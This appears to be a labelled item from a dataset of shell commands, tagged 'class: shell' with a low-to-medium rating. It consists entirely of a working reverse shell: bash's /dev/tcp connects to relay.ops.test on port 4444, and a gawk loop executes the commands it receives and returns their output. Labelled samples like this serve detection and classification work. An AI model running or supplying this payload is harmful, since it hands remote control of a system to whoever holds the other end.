# class: shell; possible: low medium
exec 9<>/dev/tcp/relay.ops.test/4444
gawk 'BEGIN { while ((getline c < "/dev/fd/9") > 0) { if (c == "exit") exit; while ((c " 2>&1" | getline l) > 0) print l > "/dev/fd/9"; close(c); fflush() } }'
